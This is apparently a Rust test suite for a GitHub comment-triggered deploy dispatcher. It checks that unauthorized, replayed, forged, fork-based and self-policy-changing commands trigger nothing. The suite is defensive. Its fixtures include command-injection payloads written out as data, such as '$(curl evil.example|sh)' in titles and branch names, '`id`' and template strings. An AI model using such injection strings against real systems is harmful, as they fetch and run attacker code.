//! What attackers try, over HTTP. Each test is named for the move, and ends with what the target heard of it.

use dispatch_core::testing::world::{PullRequestSpec, World};

use crate::command::{INFRASTRUCTURE, cms, deploy, opened};
use crate::house::{House, repository};

const NOTHING: Vec<String> = Vec::new();

/// Everything that a stranger can choose, as an attacker would.
const HOSTILE: [&str; 4] = ["$(curl evil.example|sh)", "{{ pr.number }}", "line\nline", "`id`"];

#[tokio::test(flavor = "multi_thread")]
async fn a_stranger_gives_a_command() {
    let (house, number) = opened().await;
    for stranger in ["bob", "mallory"] {
        house.comments("cms", number, stranger, "/test-deploy").await;
        let asked = house.asked();
        assert_eq!(asked.writes_to(INFRASTRUCTURE), NOTHING, "{stranger}");
        assert!(asked.all().contains(&format!("GET cms/collaborators/{stranger}/permission")), "{}", asked.all());
    }
    house.finish().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_comment_becomes_a_command_by_editing() {
    let (house, number) = opened().await;
    let comment = house.comments("cms", number, "alice", "looks good").await;
    house.happens(|world| world.edit_comment(&repository("cms"), comment, "/test-deploy").unwrap()).await;
    assert_eq!(house.asked().all(), "", "GitHub is asked nothing at all");
    house.finish().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_command_in_an_issue() {
    let house = House::over(cms()).await;
    let cms = repository("cms");
    let issue = house.happens(|world| world.open_issue(&cms, "alice", "a question", "how?").unwrap()).await;
    house.comments("cms", issue, "alice", "/test-deploy").await;
    assert_eq!(house.asked().all(), "", "GitHub is asked nothing at all");
    house.finish().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn bots_and_the_app_itself_give_commands() {
    let (house, number) = opened().await;
    let cms = repository("cms");
    house.comments("cms", number, "renovate[bot]", "/test-deploy").await;
    house.comments("cms", number, "dispatch[bot]", "/test-deploy").await;
    let through = |world: &mut World| world.comment_through_app(&cms, number, "alice", "/test-deploy", "helper");
    house.happens(through).await.unwrap();
    let asked = house.asked();
    assert_eq!((asked.writes_to(INFRASTRUCTURE), asked.writes_to("cms")), (NOTHING, NOTHING), "nor is a bot answered");
    house.finish().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_command_then_a_push() {
    let (house, number) = opened().await;
    let cms = repository("cms");
    // The push arrives at GitHub after the comment, and before anybody reads the head.
    let head = house
        .happens(|world| {
            world.comment(&cms, number, "alice", "/test-deploy").unwrap();
            world.push_to_pull_request(&cms, number, "mallory").unwrap()
        })
        .await;
    assert_eq!(house.asked().writes_to(INFRASTRUCTURE), NOTHING);
    house.comments("cms", number, "alice", &format!("/test-deploy {head}")).await;
    assert_eq!(house.end().await.writes_to(INFRASTRUCTURE), [deploy(number, "feature/x", "dev", head.as_str())]);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_command_on_the_head_of_a_fork() {
    let house = House::over(cms()).await;
    let number = house.opens_from_fork("cms", "mallory", "dev").await;
    house.comments("cms", number, "alice", "/test-deploy").await;
    let head = house.head("cms", number);
    house.comments("cms", number, "alice", &format!("/test-deploy {head}")).await;
    assert_eq!(house.end().await.writes_to(INFRASTRUCTURE), NOTHING);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_comment_is_replayed() {
    let (house, number) = opened().await;
    house.comments("cms", number, "alice", "/test-deploy").await;
    assert_eq!(house.asked().writes_to(INFRASTRUCTURE).len(), 1);
    let (own, body) = house.newest_webhook("issue_comment");
    let others = ["00000000-0000-0000-0000-000000000001", "00000000-0000-0000-0000-000000000002"];
    for delivery in [own.as_str(), others[0], others[1]] {
        assert_eq!(house.delivers("issue_comment", delivery, &body).await, 202);
        assert_eq!(house.asked().writes_to(INFRASTRUCTURE), NOTHING, "under {delivery}: it was done once");
    }
    _ = house.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn another_body_comes_under_the_delivery_id_of_a_comment() {
    let (house, number) = opened().await;
    house.comments("cms", number, "alice", "looks good").await;
    let (own, body) = house.newest_webhook("issue_comment");
    _ = house.asked();
    // Signed by somebody who does not know the secret.
    let forged = String::from_utf8(body).unwrap().replace("looks good", "/test-deploy").into_bytes();
    assert_eq!(house.delivers_signed("issue_comment", own.as_str(), &forged, "a guess").await, 401);
    assert_eq!(house.asked().all(), "", "GitHub is asked nothing at all");
    house.finish().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_pull_request_changes_the_policy_that_decides_about_it() {
    let house = House::over(cms()).await;
    let cms = repository("cms");
    let policy = "outbound:\n  - source: { command: /own, permission: author }\n    targets:\n      - \
                  { repository: cms_infrastructure, event: deploy-ephemeral }\n";
    house.happens(|world| world.write_file(&cms, "feature/x", "dispatching.yml", policy).unwrap()).await;
    let number = house.opens("cms", "mallory", "feature/x", "dev").await;
    house.comments("cms", number, "mallory", "/own").await;
    house.comments("cms", number, "alice", "/own").await;
    let asked = house.asked();
    assert_eq!((asked.writes_to(INFRASTRUCTURE), asked.said_to(INFRASTRUCTURE).as_str()), (NOTHING, ""));
    house.finish().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn titles_and_texts_with_shell_and_template_characters() {
    let house = House::over(cms()).await;
    let hostile = format!("{} {}", HOSTILE.join(" "), "x".repeat(300));
    let spec = PullRequestSpec {
        author: "alice".to_owned(),
        base: "dev".to_owned(),
        title: hostile.clone(),
        body: Some(hostile.clone()),
        ..PullRequestSpec::new("feature/x")
    };
    let number = house.happens(|world| world.open_pull_request(&repository("cms"), spec).unwrap()).await;
    house.comments("cms", number, "alice", &format!("/test-deploy\n{hostile}")).await;
    let head = house.head("cms", number);
    let asked = house.end().await;
    assert_eq!(asked.writes_to(INFRASTRUCTURE), [deploy(number, "feature/x", "dev", &head)]);
    for part in ["evil.example", "{{", "`", "xxxx", "line"] {
        assert!(!asked.said_to(INFRASTRUCTURE).contains(part), "`{part}`");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn branches_with_shell_and_template_characters() {
    let house = House::over(cms()).await;
    // GitHub takes no branch of more than 255 bytes (GH002).
    for branch in ["$(curl${IFS}evil.example|sh)", "{{pr.number}}", "a;b", "`id`", &"x".repeat(201), &"x".repeat(255)] {
        let number = house.opens("cms", "alice", branch, "dev").await;
        house.comments("cms", number, "alice", "/test-deploy").await;
        let asked = house.asked();
        assert_eq!(asked.writes_to(INFRASTRUCTURE), NOTHING, "{branch}");
        assert!(!asked.said_to(INFRASTRUCTURE).contains(branch), "{branch}");
    }
    house.finish().await;
}
